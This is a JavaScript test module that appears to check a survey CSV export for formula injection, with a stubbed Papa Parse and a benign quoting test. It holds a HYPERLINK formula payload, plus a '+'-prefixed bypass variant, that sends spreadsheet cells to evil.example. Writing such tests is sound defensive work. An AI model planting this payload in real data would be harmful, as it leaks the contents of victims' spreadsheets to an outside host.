// Answers a survey with a formula, and reads the cell in the export.

import assert from "node:assert/strict";

const LINK = 'HYPERLINK("https://evil.example/?"&A2&B2, "Details")';

// As much of Papa Parse as the snippets use: every cell in quotes.
const unparse = (rows) =>
  rows.map((row) => row.map((cell) => `"${cell.replaceAll('"', '""')}"`).join(",")).join("\r\n");

export const standIns = { papaparse: { default: { unparse } } };

function cell(code, text) {
  const line = code.exported([{ day: "2 March", text }]);
  return line.slice('"2 March","'.length, -1).replaceAll('""', '"');
}

function formula(code, text) {
  const read = cell(code, text);
  return /^[=+\-@]/.test(read) ? `B1: ${read}` : null;
}

export const attack = (code) => formula(code, `=${LINK}`);
export const bypass = (code) => formula(code, `+${LINK}`);

export function use(code) {
  assert.equal(cell(code, 'I like it, "really"'), 'I like it, "really"');
}
